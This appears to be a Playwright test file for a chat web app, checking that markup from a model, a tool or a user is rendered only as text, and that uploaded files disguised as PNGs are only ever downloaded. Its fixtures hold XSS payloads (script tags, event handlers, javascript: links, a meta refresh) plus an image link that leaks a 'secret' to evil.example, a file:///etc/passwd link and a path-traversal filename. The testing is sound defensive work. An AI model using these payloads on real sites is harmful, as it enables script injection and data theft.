"""What a real model, its tools and those who send files may say and send: nothing of it runs, and all of it can be read. And axe looks at all of it."""

from __future__ import annotations

import asyncio
import base64
import json
import re
from typing import Any, Final

import pytest
from playwright.async_api import Error, Locator, Route, expect

from holdfast.testing.gateway_rig import ANSWER, SLOW, Parts, to
from holdfast.testing.llama import Options, Script
from holdfast.testing.process import toolserver_table

pytestmark = pytest.mark.needs("chromium")

MARKUP: Final = (
    "<script>globalThis.pwned=1</script><img\tsrc=x\tonerror=globalThis.pwned=2>\n\n"
    "[js](javascript:globalThis.pwned=3) [data](data:text/html,<script>globalThis.pwned=4</script>) [vb](VBscript:x) [blob](blob:x) "
    '[file](file:///etc/passwd) [ours](/v1/logout) ![picture](https://evil.example/leak.png?q=secret) [quote](https://example.org/?a=1&b="><script>) '
    "[tab](java\tscript:x) <javascript:x> <svg\nonload=globalThis.pwned=5>\n\n[ref]\n\n[ref]: javascript:globalThis.pwned=6\n\n"
    '|<b>cell</b>|[cell](javascript:7)|\n|--|--|\n|<iframe\tsrcdoc="<script>parent.pwned=7</script>">|`</code><script>globalThis.pwned=8</script>`|\n\n'
    '```html"onmouseover="globalThis.pwned=9\n</code></pre><script>globalThis.pwned=10</script>\n```\n\n'
    "<style>body{display:none}</style><base\thref=//evil.example><meta\thttp-equiv=refresh\tcontent=0;url=//evil.example><form><input\tautofocus>"
)
"""In it no word is there twice, as the scripted model needs it."""
INTRUDERS: Final = "script, img, iframe, svg:not(.icon), style, base, meta, form, input, [onerror], [onload], [onmouseover]"

PNG: Final = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=11"><script>parent.pwned=12</script></svg>'
HTML: Final = b"<!doctype html><title>pwned</title><script>parent.pwned=13</script>"


def evil(real: Parts) -> str:
    """The configuration of a model that says it all, and has a tool say it."""
    llama = real.llama(Options(context_tokens=16_384), Script(text=MARKUP, tool="t__count", arguments=json.dumps({"key": MARKUP})))
    return to(llama.base_url, 'dialect = "anthropic"') + toolserver_table(real.effects)


async def harmless(items: Locator) -> None:
    """Nothing of the markup became anything but text and links to the web."""
    await expect(items.locator(INTRUDERS)).to_have_count(0)
    links = await items.locator(".prose a").evaluate_all("(links) => links.map((a) => [a.getAttribute('href'), a.rel, a.target])")
    assert links == [
        [href, "noopener noreferrer", "_blank"]
        for href in ("https://evil.example/leak.png?q=secret", "https://example.org/?a=1&b=%22%3E%3Cscript%3E")
    ]


async def test_markup_of_a_model_a_tool_and_a_person_is_only_text(chats: Any, real: Parts) -> None:
    """In messages, answers, calls, results, titles, excerpts, and in the name of a conversation that an address brings."""
    await chats.gateway(evil(real))
    chat = await chats.open()
    await chat.page.goto(f"{chat.origin}/#<img src=x onerror=globalThis.pwned=14>")
    await chat.say(f"TOOL {MARKUP}")
    await chat.answered(1)
    await chat.page.locator("article.tool summary").click()
    inside = chat.page.locator("article.tool .inside")
    await expect(inside.get_by_role("group", name="Arguments")).to_contain_text("</code></pre><script>globalThis.pwned=10</script>")
    await expect(inside.get_by_role("group", name="Result")).to_contain_text("<svg\nonload=globalThis.pwned=5>")
    await expect(chat.answers.locator("code").last).to_have_text("</code></pre><script>globalThis.pwned=10</script>")
    await expect(chat.page.get_by_role("heading", level=1)).to_have_text(re.compile("^TOOL <script>"))
    await chat.say(f"/title {MARKUP}")
    await expect(chat.page.get_by_role("heading", level=1)).to_have_text(re.compile("^<script>"))
    await chat.page.get_by_role("searchbox").fill("pwned")
    await expect(chat.page.locator("#conversations .more")).to_contain_text("pwned")
    await harmless(chat.page.locator("#items"))
    await expect(chat.page.locator("#sidebar").locator(INTRUDERS.replace("input, ", ""))).to_have_count(0)
    assert await chat.page.evaluate("[globalThis.pwned, document.scripts.length]") == [None, 1]


@pytest.mark.parametrize(("right", "wrong"), [("html: false", "html: true"), ("SAFE_LINK.test(url.trim())", "true")], ids=["HTML", "links"])
async def test_a_page_that_lets_something_in_is_found_out(chats: Any, real: Parts, right: str, wrong: str) -> None:
    await chats.gateway(evil(real))
    context = await chats.context()

    async def plant(route: Route) -> None:
        response = await route.fetch()
        body = await response.text()
        assert right in body
        await route.fulfill(response=response, body=body.replace(right, wrong))

    await context.route("**/assets/markdown.js", plant)
    await context.route(re.compile("evil.example"), lambda request: request.fulfill(status=204))  # goes nowhere
    chat = await chats.open(context)
    await chat.say("Hello")
    await chat.answered(1)
    expect.set_options(timeout=1_000)
    with pytest.raises(AssertionError):
        await harmless(chat.page.locator("#items"))
    assert await chat.page.evaluate("globalThis.pwned") is None, "the policy is the second wall"
    chat.troubles.clear()


async def test_a_disguised_file_is_only_ever_saved(chats: Any, real: Parts) -> None:
    """SVG and HTML that are called PNG, and a picture that ends in HTML: opened by a click, by address, as a frame and as a picture."""
    await chats.gateway(to(real.llama(Options()).base_url))
    chat = await chats.open()
    names = ['a"><img src=x onerror=globalThis.pwned=15>.png', "page.png", "picture.png", "../../etc/passwd.png"]
    await chat.page.locator("#files").set_input_files(
        [{"name": name, "mimeType": "image/png", "buffer": data} for name, data in zip(names, (SVG, HTML, PNG + HTML, HTML), strict=True)]
    )
    await expect(chat.page.locator(".upload").get_by_text("ready")).to_have_count(4)
    await expect(chat.page.locator(".upload img")).to_have_count(1)  # the others are shown as files
    await chat.say("Look")
    await chat.answered(1)
    links = chat.mine.locator(".bubble a")
    await expect(links).to_have_text([names[0], names[1], "", "passwd.png"])
    await expect(chat.mine.locator("img")).to_have_count(1)
    for link in await links.all():
        async with chat.page.expect_download() as saved:
            await link.click()
        assert "/" not in (await saved.value).suggested_filename
        address = str(await link.get_attribute("href"))
        with pytest.raises(Error, match="Download is starting"):
            await chat.page.goto(chat.origin + address)
        assert await chat.page.evaluate(FRAMED, address) == "refused"
    assert await chat.page.evaluate("globalThis.pwned") is None
    assert all("Content Security Policy" in trouble for trouble in chat.troubles)  # that refused the frames
    chat.troubles.clear()


FRAMED: Final = """(address) => new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", () => resolve("refused"), { once: true });
    const frame = document.createElement("iframe");
    frame.src = address;
    frame.onload = () => frame.contentDocument?.title === "pwned" && resolve("shown");
    document.body.append(frame);
})"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_axe_finds_nothing_serious_in_a_page_with_everything_on_it(chats: Any, real: Parts, scheme: str) -> None:
    """Refused, stopped, begun afresh, answered, being written, interrupted, and waiting for the model."""
    llama = real.llama(SLOW, Script(text=f"# Tides\n\n|when|height|\n|--|--:|\n|dawn|3.1|\n\n```python\nx=1\n```\n\n> quoted\n\n{ANSWER}"))
    gateway = await chats.gateway(to(llama.base_url))
    chat = await chats.open(color_scheme=scheme, reduced_motion="reduce", viewport={"width": 1280, "height": 800})
    await chat.page.locator("#files").set_input_files([{"name": "shore.png", "mimeType": "image/png", "buffer": PNG}])
    await expect(chat.page.locator(".upload").get_by_text("ready")).to_be_visible()
    await chat.say("What is this?")
    await expect(chat.page.locator("article.notice")).to_contain_text("can't see pictures")
    await chat.answered(1)
    await chat.say("A LONG story")
    await chat.in_mid_answer(20)
    await chat.page.get_by_role("button", name="Stop").click()
    await expect(chat.answers.last.locator(".foot")).to_have_text(re.compile("stopped"))
    await chat.say("/new")
    await expect(chat.page.locator("article.divider")).to_be_visible()
    await chat.page.locator("#files").set_input_files([{"name": "notes.txt", "mimeType": "text/plain", "buffer": b"kelp"}])
    await expect(chat.page.locator(".upload").get_by_text("ready")).to_be_visible()
    await chat.say("/help me")
    await expect(chat.page.get_by_text("Not sent: A command takes no files.")).to_be_visible()
    await chat.page.locator("#files").set_input_files([{"name": "empty.txt", "mimeType": "text/plain", "buffer": b""}])
    await expect(chat.page.get_by_text("This file is empty.")).to_be_visible()
    await chat.page.get_by_role("button", name="Rename this conversation").click()
    await chat.say("Another LONG one")
    await chat.in_mid_answer(20)
    assert await chat.findings() == []
    await asyncio.to_thread(llama.kill)
    await expect(chat.page.get_by_role("button", name="Try now")).to_be_visible()
    assert await chat.findings() == []
    gateway.kill()
    await gateway.ended()
    await expect(chat.away).to_be_visible()
    assert await chat.findings() == []
